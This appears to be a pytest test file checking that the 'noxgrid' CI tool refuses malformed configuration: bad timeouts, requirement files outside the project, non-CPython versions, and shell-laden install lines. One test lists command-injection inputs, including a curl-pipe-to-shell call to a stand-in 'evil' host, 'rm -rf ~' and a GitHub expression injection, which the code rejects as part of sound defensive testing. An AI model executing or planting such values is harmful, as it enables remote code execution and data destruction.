"""Input is validated where it enters (issue 23 §4-§5): a timeout that cannot work, a
requirement file outside the project, an install line that is shell: each a configuration
error naming the file, the key and the fix."""

from __future__ import annotations

import pytest

from noxgrid.model.declaration import load_config
from noxgrid.render.workflow import render_workflow
from tests.conftest import MINIMAL
from tests.unit.model.test_config import error_for


@pytest.mark.parametrize(
    ("table", "value", "why"),
    [
        ("suite", "0s", "too short"),
        ("suite", "999999999h", "too long"),
        ("suite", "500ms", "too short"),
        ("docker.health", "0s", "too short"),
        ("docker.health", "73h", "too long"),
    ],
)
def test_a_timeout_out_of_range_is_refused_where_it_is_read(make_project, table, value, why):
    text = error_for(make_project, MINIMAL + f'\n[tool.noxgrid.{table}]\ntimeout = "{value}"\n')
    assert f"tool.noxgrid.{table}.timeout: '{value}' is {why} to be a timeout" in text
    assert "use 1s to 72h" in text


def test_timeouts_in_range_are_read(make_project):
    config = load_config(make_project(MINIMAL + '\n[tool.noxgrid.suite]\ntimeout = "72h"\n'))
    assert config.suite.timeout == 72 * 3600


def test_a_requirement_file_outside_the_project_is_refused(make_project, tmp_path):
    outside = tmp_path / "outside.in"
    outside.write_text("pytest\n")
    pyproject = MINIMAL.replace(
        'requirements = ["requirements/lean.in"]', 'requirements = ["../outside.in"]', 1
    )
    text = error_for(make_project, pyproject)
    assert (
        "tool.noxgrid.profile.lean.requirements[0]: '../outside.in' is outside the project" in text
    )
    assert "keep requirement files inside the project" in text


def test_a_symlink_that_leads_out_of_the_project_is_refused(make_project, tmp_path):
    root = make_project()
    outside = tmp_path / "elsewhere.in"
    outside.write_text("pytest\n")
    (root / "requirements" / "lean.in").unlink()
    (root / "requirements" / "lean.in").symlink_to(outside)
    text = error_for(make_project, MINIMAL)
    assert "'requirements/lean.in' is outside the project" in text
    assert str(outside) in text


@pytest.mark.parametrize(
    "install",
    [
        "noxgrid==0.1.0 $(curl evil|sh); touch /tmp/pwned",
        "noxgrid==0.1.0 && rm -rf ~",
        "-e ../nowhere",
        "noxgrid==${{ github.event.issue.title }}",
    ],
)
def test_an_install_line_that_is_not_one_requirement_or_path_is_refused(make_project, install):
    text = error_for(make_project, MINIMAL + f"\n[tool.noxgrid.workflow]\ninstall = '{install}'\n")
    assert "tool.noxgrid.workflow.install:" in text and "cannot be how CI installs" in text
    if "${{" in install:
        assert "GitHub expression" in text


def test_the_install_value_reaches_pip_as_data_not_as_shell(make_project):
    marker = "noxgrid==0.1.0; python_version >= '3.9'"
    config = load_config(
        make_project(MINIMAL + f'\n[tool.noxgrid.workflow]\ninstall = "{marker}"\n')
    )
    text = render_workflow(config)
    assert 'run: python -m pip install "$NOXGRID_INSTALL"' in text
    assert "NOXGRID_INSTALL: " in text and "pip install noxgrid" not in text
    editable = load_config(make_project(MINIMAL + '\n[tool.noxgrid.workflow]\ninstall = "-e ."\n'))
    text = render_workflow(editable)
    assert 'pip install -e "$NOXGRID_INSTALL"' in text and "NOXGRID_INSTALL: ." in text


@pytest.mark.parametrize(
    ("pythons", "said"),
    [
        ('["3.1", "3.10"]', "'3.1' is not a CPython minor a cell can run"),
        ('["3.10", "3.07"]', "'3.07' has a leading zero"),
        ('["3.11", "3.99"]', "'3.99' is not a CPython minor"),
    ],
)
def test_a_python_value_that_is_no_cpython_minor_is_refused(make_project, pythons, said):
    pyproject = MINIMAL.replace('python = ["3.9", "3.10", "3.11"]', f"python = {pythons}", 1)
    text = error_for(make_project, pyproject)
    assert f"tool.noxgrid.python: {said}" in text
    assert 'fix: list the CPython minors the cells run, as "3.X" strings' in text


def test_an_included_cell_or_interpreter_of_no_real_minor_is_refused(make_project):
    include = '\ninclude = [{ python = "3.1", accelerator = "cpu", profile = "lean" }]\n'
    text = error_for(make_project, MINIMAL.replace("[tool.noxgrid]\n", "[tool.noxgrid]" + include))
    assert "tool.noxgrid.include[0].python: '3.1' is not a CPython minor" in text
    pyproject = MINIMAL + '\n[tool.noxgrid.interpreters]\n"3.1" = "/usr/bin/python3"\n'
    assert "tool.noxgrid.interpreters.3.1: '3.1' is not a Python version" in error_for(
        make_project, pyproject
    )


def test_nox_cannot_tell_the_versions_apart_that_noxgrid_refuses():
    from nox.manifest import _normalize_arg

    from noxgrid.model.pythonversions import nox_clash

    # nox reads a session name as Python: in it, 3.10 is the number 3.1.
    assert _normalize_arg("ci-lean-3.1(cpu)") == _normalize_arg("ci-lean-3.10(cpu)")
    assert nox_clash("3.1", ["3.9", "3.10"]) == "3.10"
    assert nox_clash("3.20", ["3.2"]) == "3.2"
    assert nox_clash("3.11", ["3.1", "3.10", "3.12"]) is None
